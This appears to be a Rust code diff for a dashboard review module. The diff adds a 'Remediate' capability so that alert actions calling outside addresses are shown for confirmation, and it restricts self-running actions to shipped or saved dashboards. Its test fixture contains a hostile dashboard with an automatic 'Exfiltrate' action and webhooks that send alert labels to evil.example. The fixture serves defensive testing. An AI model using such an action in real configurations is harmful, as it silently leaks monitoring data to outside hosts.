@@ -147,6 +147,14 @@ pub enum Capability {
     AlertRules { names: Vec<String> },
     /// Send notifications (Alertmanager or a webhook) to an address.
     Notify { address: String, origin: String },
+    /// Call an address to remediate a rule's alerts, by hand or by itself.
+    Remediate {
+        rule: String,
+        action: String,
+        address: String,
+        origin: String,
+        automatic: bool,
+    },
     /// Refresh more often than [`MIN_UNREVIEWED_REFRESH_SECONDS`].
     FastRefresh { seconds: u32 },
     /// Evaluate a rule more often than [`MIN_UNREVIEWED_ALERT_INTERVAL_SECONDS`].
@@ -163,6 +171,10 @@ impl Capability {
                 names.len(),
                 if names.len() == 1 { "" } else { "s" },
                 names.iter().take(5).cloned().collect::<Vec<_>>().join(", ")
+            ),
+            Self::Remediate { rule, action, address, automatic, .. } => format!(
+                "call {address} to remediate {rule} (\"{action}\"){}",
+                if *automatic { ", by itself when it fires" } else { ", when you run it" }
             ),
             Self::Notify { address, .. } => format!(
                 "send firing alerts, with their labels and values, to {address}"
@@ -258,6 +270,26 @@ pub fn review(
             });
         }
     }
+    for rule in &dashboard.alerts {
+        for action in &rule.actions {
+            // A trusted dashboard's action run by hand is confirmed when run
+            // (the request is shown first); only one that would run by
+            // itself is asked about up front.
+            let asked_when_run = provenance.is_trusted() && !action.automatic;
+            if asked_when_run || confirmed.permits_notification(&action.url) {
+                continue;
+            }
+            if let Some(origin) = origin_of(&action.url) {
+                asks.push(Capability::Remediate {
+                    rule: rule.name.clone(),
+                    action: action.name.clone(),
+                    address: action.url.clone(),
+                    origin,
+                    automatic: action.automatic,
+                });
+            }
+        }
+    }
     asks
 }
 
@@ -268,7 +300,7 @@ pub fn confirm(confirmed: &mut ConfirmedOrigins, asks: &[Capability]) {
             Capability::Datasource { origin, .. } => {
                 confirmed.datasources.insert(origin.clone());
             }
-            Capability::Notify { origin, .. } => {
+            Capability::Notify { origin, .. } | Capability::Remediate { origin, .. } => {
                 confirmed.notification_targets.insert(origin.clone());
             }
             _ => {}
@@ -321,6 +353,15 @@ pub fn alert_state_namespace(provenance: Provenance, dashboard: &Dashboard) -> S
     format!("{}.{}.{fingerprint}", provenance.key_part(), dashboard.id)
 }
 
+/// Whether the dashboard whose alert state lives under `namespace` (see
+/// [`alert_state_namespace`]) is trusted: shipped or saved in this browser.
+/// Only such a dashboard's actions may run by themselves.
+pub fn namespace_is_trusted(namespace: &str) -> bool {
+    [Provenance::Shipped, Provenance::Saved]
+        .iter()
+        .any(|p| namespace.starts_with(&format!("{}.", p.key_part())))
+}
+
 /// A fingerprint of a whole dashboard, to remember in this tab that the viewer
 /// accepted it.
 pub fn dashboard_fingerprint(dashboard: &Dashboard) -> String {
@@ -335,7 +376,8 @@ mod tests {
         "refresh": "1s", "datasource": "https://evil.example/prom",
         "panels": [{"id": "p", "title": "P", "type": "timeseries", "targets": [{"expr": "up"}]}],
         "layout": [{"panel": "p", "x": 0, "y": 0, "w": 24, "h": 8}],
-        "alerts": [{"name": "Leak", "expr": "up", "condition": {"kind": "threshold", "op": ">", "value": -1}, "interval": "1s"}],
+        "alerts": [{"name": "Leak", "expr": "up", "condition": {"kind": "threshold", "op": ">", "value": -1}, "interval": "1s",
+            "actions": [{"name": "Exfiltrate", "url": "https://evil.example/run", "body": "{{ $labels }}", "automatic": true}]}],
         "notify": {"webhooks": ["https://evil.example/collect"], "alertmanager": "http://am.example:9093"}}"#;
 
     fn page() -> PageContext {
@@ -360,7 +402,9 @@ mod tests {
             &page(),
         );
         let described: Vec<String> = asks.iter().map(Capability::describe).collect();
-        assert_eq!(asks.len(), 6, "{described:#?}");
+        assert_eq!(asks.len(), 7, "{described:#?}");
+        assert!(described.iter().any(|d| d
+            == "call https://evil.example/run to remediate Leak (\"Exfiltrate\"), by itself when it fires"));
         assert!(
             matches!(&asks[0], Capability::Datasource { origin, .. } if origin == "https://evil.example")
         );
@@ -416,11 +460,17 @@ mod tests {
             &confirmed,
             &page(),
         );
-        assert_eq!(asks.len(), 3, "{asks:?}"); // two notification targets and the link's refresh
+        // Two notification targets, the remediation target and the link's refresh.
+        assert_eq!(asks.len(), 4, "{asks:?}");
         let other = Datasource::parse("http://localhost:9090").unwrap();
         let asks = review(
             Provenance::Shipped,
-            &Dashboard::from_json(&HOSTILE.replace("\"notify\"", "\"x\"")).unwrap(),
+            &Dashboard::from_json(
+                &HOSTILE
+                    .replace("\"notify\"", "\"x\"")
+                    .replace("\"actions\"", "\"y\""),
+            )
+            .unwrap(),
             Some(&other),
             None,
             &confirmed,
@@ -459,6 +509,27 @@ mod tests {
         assert_eq!(bounded_refresh("5s"), "5s");
         assert_eq!(bounded_refresh("30s"), "30s");
         assert_eq!(bounded_refresh("off"), "off");
+    }
+
+    #[test]
+    fn only_shipped_and_saved_namespaces_are_trusted() {
+        let board = hostile();
+        assert!(namespace_is_trusted(&alert_state_namespace(
+            Provenance::Saved,
+            &board
+        )));
+        assert!(namespace_is_trusted(&alert_state_namespace(
+            Provenance::Shipped,
+            &board
+        )));
+        assert!(!namespace_is_trusted(&alert_state_namespace(
+            Provenance::Link,
+            &board
+        )));
+        assert!(!namespace_is_trusted(&alert_state_namespace(
+            Provenance::Import,
+            &board
+        )));
     }
 
     #[test]
